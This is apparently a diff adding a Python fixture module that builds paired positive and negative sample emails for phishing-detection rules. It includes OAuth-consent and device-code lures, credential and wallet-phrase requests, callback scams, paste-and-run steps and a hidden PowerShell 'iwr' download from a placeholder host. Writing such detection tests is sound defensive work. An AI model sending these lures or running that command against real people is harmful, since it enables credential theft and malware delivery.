@@ -1,0 +1,99 @@
+# SPDX-License-Identifier: Apache-2.0
+"""Inert mails for the rules of lures that use genuine pages and services: rows as in rule_mails.py."""
+from mails import mail
+import images, pdfs
+
+NOTE = 'Please read the note.'
+GMAIL = 'Petra Lind <petra.lind@gmail.com>'
+CALL = 'Your card was charged $399 for the renewal of your subscription. If you did not authorize this, call %s to cancel.'
+PHONE, DESK = '+1 (888) 555-0142', 'the desk'
+
+
+def anchor(url, text):
+    return '<html><body><p>Please see</p><p><a href="%s">%s</a></p></body></html>' % (url, text)
+
+
+def document(text):
+    return pdfs.pdf(pdfs.page(content=b'BT /F1 12 Tf 72 700 Td (' + text.replace('(', '\\(').replace(')', '\\)').encode() + b') Tj ET'))
+
+
+def event(text):
+    return ('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//garden//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@flowers.test\r\n'
+            'DTSTAMP:20210315T080000Z\r\nDTSTART:20210320T080000Z\r\nSUMMARY:Order\r\nDESCRIPTION:%s\r\nEND:VEVENT\r\n'
+            'END:VCALENDAR\r\n' % text.replace(',', '\\,')).encode()
+
+
+def genuine_pages():
+    code = 'To join, open https://microsoft.com/devicelogin and enter the code %s.'
+    yield 'device-code-asked', mail('Call', code % 'C8JQ2KWPL'), mail('Call', code % 'of your own device')
+    yield 'link-device-login', mail('Call', 'Open https://microsoft.com/devicelogin'), mail('Call', 'Open https://microsoft.com/about')
+    ask = 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1&redirect_uri=https%%3A%%2F%%2F%s%%2Fcb&scope=%s'
+    broad, narrow = 'offline_access%20Mail.ReadWrite', 'openid%20profile'
+    away, home = ask % ('roses.test', broad), ask % ('www.flowers.test', narrow)
+    yield 'oauth-consent-foreign', mail('Note', NOTE, html=anchor(away, 'note')), mail('Note', NOTE, html=anchor(home, 'note'))
+    yield 'oauth-broad-scope', mail('Note', NOTE, html=anchor(away, 'note')), mail('Note', NOTE, html=anchor(home, 'note'))
+    shown = 'https://www.paypal.com/signin'
+    yield 'link-text-brand', mail('Note', NOTE, html=anchor('https://roses.test/a', shown)), \
+        mail('Note', NOTE, html=anchor('https://www.paypal.com/home', shown))
+    form = 'Dear staff, give your account number and password before Monday: https://docs.google.com/forms/d/e/1/viewform'
+    yield 'self-made-page-asks', mail('Note', form), mail('Note', form.replace('account number and password', 'choice of tulips'))
+    yield 'link-file-host-archive', mail('Copyright notice', 'The evidence: https://www.mediafire.com/file/1/Evidence.zip/file'), \
+        mail('Garden', 'The tulips: https://www.mediafire.com/file/1/Tulips.zip/file')
+    yield 'bait-foreign-page', mail('New voicemail', 'You have a new voicemail: https://roses.test/a'), \
+        mail('New voicemail', 'You have a new voicemail: https://flowers.test/a')
+
+
+def commands():
+    steps = 'To repair your mailbox press %s, then Ctrl+V and Enter.'
+    yield 'paste-and-run', mail('Note', steps % 'Windows + R'), mail('Note', steps % 'Shift')
+    command = 'powershell -w h -c "%s https://roses.test/a"'
+    yield 'command-in-text', mail('Note', command % 'iwr'), mail('Note', command % 'Get-Help').replace(b'https://', b'')
+    def attached(key):
+        return [('join.html', b'<html><body><p>Verify you are human</p><ol><li>Press <b>' + key +
+                 b'</b></li><li>Press <b>Ctrl + V</b></li><li>Press Enter</li></ol></body></html>')]
+    yield 'page-paste-and-run', mail('Note', NOTE, attached(b'Windows Key + R')), mail('Note', NOTE, attached(b'Shift'))
+
+
+def talks():
+    ask = 'Please create a new %s group for a confidential task and send me its QR code.'
+    yield 'ask-messenger', mail('Task', ask % 'WhatsApp', sender=GMAIL), mail('Task', ask % 'garden', sender=GMAIL)
+    said = 'PayPal sent you a money request. Note from Lake: ' + CALL
+    service = 'PayPal <service@paypal.com>'
+    yield 'service-note-callback', mail('Request', said % PHONE, sender=service), mail('Request', said % DESK, sender=service)
+    yield 'calendar-callback', mail('Note', NOTE, [('a.ics', event(CALL % PHONE))]), mail('Note', NOTE, [('a.ics', event(CALL % DESK))])
+    yield 'document-callback', mail('Note', NOTE, [('a.pdf', document(CALL % PHONE))]), mail('Note', NOTE, [('a.pdf', document(CALL % DESK))])
+    wants = 'Lake shared a file with you. Log in with your %s to view it.'
+    box = 'Dropbox <no-reply@dropbox.com>'
+    yield 'service-note-credentials', mail('File', wants % 'Office 365 email', sender=box), mail('File', wants % 'usual name', sender=box)
+    yield 'wallet-phrase-asked', mail('Wallet', 'Verify your recovery phrase: https://roses.test/a'), \
+        mail('Wallet', 'We never ask for your recovery phrase, verify nothing: https://roses.test/a')
+
+
+def attachments():
+    leads = b'<svg xmlns="http://www.w3.org/2000/svg"><a %s="https://roses.test/a"><text>Play</text></a></svg>'
+    yield 'svg-link', mail('Note', NOTE, [('a.svg', leads % b'href')]), mail('Note', NOTE, [('a.svg', leads % b'class')])
+    page = b'<html><body><p>%s</p></body></html>'
+    yield 'page-names-recipient', mail('Note', NOTE, [('a.html', page % b'hanako@recipient.test')]), \
+        mail('Note', NOTE, [('a.html', page % b'desk@recipient.test')])
+
+    def code(url, text='Please scan the QR code.'):
+        return mail('Note', text, [('a.png', images.png(images.gray(images.qr(url))))])
+    yield 'qr-asked', code('https://roses.test/a'), code('https://flowers.test/a')
+    yield 'qr-carries-recipient', code('https://roses.test/?e=hanako@recipient.test'), code('https://roses.test/?e=desk@recipient.test')
+
+
+def senders():
+    def s(sender, text=NOTE + ' https://flowers.test/a', **more):
+        return mail('Note', text, sender=sender, **more)
+    staff = 'All staff must sign the new handbook: https://flowers.test/a'
+    yield 'sender-claims-inside', s('Human Resources <a@flowers.test>', staff), s('Human Resources <a@recipient.test>', staff)
+    yield 'sender-authority-foreign', s('国税庁 <a@flowers.test>'), s('国税庁 <a@nta.go.jp>')
+    yield 'sender-domain-near-recipient', s('Lake <a@recipientt.test>'), s('Lake <a@roses.test>')
+    yield 'sender-domain-carries-recipient', s('Lake <a@recipient-desk.test>'), s('Lake <a@garden-desk.test>')
+    to = ['Reply-To: lake@%s']
+    yield 'reply-to-lookalike', s('Lake <lake@flowers.test>', headers=[to[0] % 'flovvers.test']), s('Lake <lake@flowers.test>', headers=[to[0] % 'roses.test'])
+
+
+def all_rows():
+    for group in (genuine_pages, commands, talks, attachments, senders):
+        yield from group()
